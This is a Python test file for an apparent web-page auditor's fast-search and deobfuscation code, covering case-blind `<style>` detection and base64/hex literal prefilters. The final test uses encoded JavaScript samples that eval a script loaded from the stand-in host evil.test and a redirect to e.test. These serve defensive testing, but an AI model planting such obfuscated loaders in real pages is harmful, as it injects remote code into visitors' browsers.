"""Readers sought where their literal is, not tried at every character, answer as the
patterns they stand for (speed42): the case-blind `<style>` creation, and the RE2
openings asked before the long-literal patterns."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.dom.deobfuscate import (
    _HEX_LITERAL,
    _HEX_OPENING,
    _LONG_B64,
    _LONG_B64_OPENING,
    _decodings,
)
from auditor.heuristics.hidden import _CREATES_STYLE, _creates_style_at_needle

# --- `<style>` creation: sought at each opening its matches lower to ---

_STYLE_PIECES = ["createElement(", "CREATEELEMENT(", "createelement (", "document.", "'style'",
                 '"STYLE"', "`\u017ftyle`", "'styl'", ")", " ", "\n", "<style", "<STYLE>",
                 "<\u017fTYLE ", "<styles", "<", "\u0130", "\u212a", "x", "'", "("]


@pytest.mark.parametrize("text", [
    "var s=document.createElement('style')",
    "document.CREATEELEMENT( `STYLE` )",
    "document.createElement(\"\u017ftyle\")",  # the long s matches `s` case-blind
    "d.write('<STYLE>#a{display:none}</STYLE>')",
    "'<\u017fTYLE media=all>'",
    "var t = '<styles>'; createElement ('style')",  # no match at the first opening
    "\u0130 createElement('style')",  # İ lowers to two characters: the offsets move
    "\u0130 <styles>",
    "createElement('div'); x.style.top='1px'",
])
def test_style_creation_table(text: str) -> None:
    assert _creates_style_at_needle(text, text.lower()) == bool(_CREATES_STYLE.search(text))


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_STYLE_PIECES), max_size=16))
def test_style_creation_is_the_case_blind_search(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert _creates_style_at_needle(text, text.lower()) == bool(_CREATES_STYLE.search(text))


# --- the long literals' RE2 openings: no where the pattern matches ---

_LITERAL_PIECES = ["'", '"', "ab", "0f", "9A", "+/", "=", "==", "x", " ", "Zz", "\u0131",
                   "0123456789abcdef", "QUJDREVGR0hJSktMTU5PUFFS"]


@settings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(_LITERAL_PIECES), max_size=24))
def test_long_literal_openings_never_rule_out_a_match(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert _LONG_B64.search(text) is None or _LONG_B64_OPENING.search(text) is not None
    assert _HEX_LITERAL.search(text) is None or _HEX_OPENING.search(text) is not None


def test_decodings_still_read_a_long_base64_and_a_hex_literal() -> None:
    b64 = "ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwczovL2V2aWwudGVzdC94LmpzIj4nKQ=="
    hexed = "646f63756d656e742e6c6f636174696f6e3d2768747470733a2f2f652e746573742f27"
    found = [text for text, _ in _decodings(f"var p='{b64}'; eval(atob(p))")]
    assert any("evil.test/x.js" in text for text in found)
    code = (f"var h='{hexed}',s='';for(var i=0;i<h.length;i+=2)"
            "s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(s)")
    assert any("e.test" in text for text, _ in _decodings(code))
